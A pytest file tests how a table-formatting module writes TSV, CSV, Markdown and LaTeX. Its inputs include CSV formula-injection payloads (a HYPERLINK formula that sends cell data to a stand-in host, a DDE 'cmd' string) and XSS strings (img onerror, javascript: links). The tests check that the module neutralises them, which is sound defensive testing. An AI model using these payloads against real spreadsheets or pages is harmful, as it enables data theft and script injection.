"""Tests of tables as TSV, CSV, Markdown and LaTeX."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from markdown_it import MarkdownIt

from hpcft.cli import table_formats

HEADER = ["recipe", "note"]
CELLS = [["made", 'a "b", c\nd | e\tf'], ["x_1 & 50% #$~^\\{}", "0.8 ± 0.1\n\n× 2"]]


def test_as_tsv_has_one_line_per_row() -> None:
    lines = table_formats.as_tsv(HEADER, CELLS).split("\n")
    assert [line.split("\t") for line in lines] == [
        HEADER, ["made", 'a "b", c d | e f'], ["x_1 & 50% #$~^\\{}", "0.8 ± 0.1 × 2"],
    ]  # fmt: skip
    assert table_formats.as_tsv(["a"], [["x\u2028y\x0bz\r"]]) == "a\nx y z"


def test_as_csv_reads_back_unchanged() -> None:
    text = table_formats.as_csv(HEADER, CELLS)
    assert list(csv.reader(io.StringIO(text), strict=True)) == [HEADER, *CELLS]
    assert text.startswith('recipe,note\nmade,"a ""b"", c\nd | e\tf"\n')


def test_as_markdown_escapes_pipes() -> None:
    lines = table_formats.as_markdown(HEADER, CELLS).split("\n")
    assert lines[:3] == ["| recipe | note |", "| --- | --- |", '| made | a "b", c d \\| e f |']
    assert len(lines) == 4


FORMULAS = [
    "=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "  =1+1", "＝1+1",
]  # fmt: skip
NUMBERS = ["-0.5", "+3", "-1e-05", "0.5", "12 %", "a=b", "[-0.1, 0.2]"]


@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_cells_that_a_spreadsheet_would_compute_are_text(name: str) -> None:
    text = table_formats.FORMATS[name](["a"], [[cell] for cell in FORMULAS])
    delimiter = "\t" if name == "tsv" else ","
    _, *read = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    assert len(read) == len(FORMULAS)
    assert all(cell.startswith("'") for (cell,) in read)


@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_numbers_stay_numbers(name: str) -> None:
    text = table_formats.FORMATS[name](["a"], [[cell] for cell in NUMBERS])
    assert [line.strip('"') for line in text.split("\n")[1:]] == NUMBERS


def test_as_markdown_shows_html_and_links_as_text() -> None:
    """The rendered table has no tag, link or emphasis that a cell has brought."""
    cells = [
        "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "![](http://x.example/a)",
        "<http://x.example>", "https://x.example/a", "www.x.example", "*b* _i_ `c` ~~s~~ \\|",
        "&lt;b&gt;", "a@x.example",
    ]  # fmt: skip
    lines = table_formats.as_markdown(["a"], [[cell] for cell in cells]).split("\n")[2:]
    shown = [_rendered(line.removeprefix("| ").removesuffix(" |")) for line in lines]
    assert shown == [html.escape(cell, quote=False) for cell in cells]


def _rendered(text: str) -> str:
    """HTML of a cell of a Markdown table."""
    assert not re.search(r"://|www\.|\w@\w", text), "GitHub would make a link of it"
    renderer = MarkdownIt("commonmark").enable("strikethrough")
    html_text = str(renderer.renderInline(text.replace("\\|", "|")))
    return html_text.replace("&quot;", '"')


def test_as_latex_escapes_special_characters() -> None:
    lines = table_formats.as_latex(HEADER, CELLS).split("\n")
    assert lines[0] == r"\begin{tabular}{ll}"
    assert lines[4] == r'made & a "b", c d | e f \\'
    assert lines[5] == (
        r"x\_1 \& 50\% \#\$\textasciitilde{}\textasciicircum{}\textbackslash{}\{\} & "
        r"0.8 $\pm$ 0.1 $\times$ 2 \\"
    )
    assert lines[6:] == [r"\bottomrule", r"\end{tabular}"]
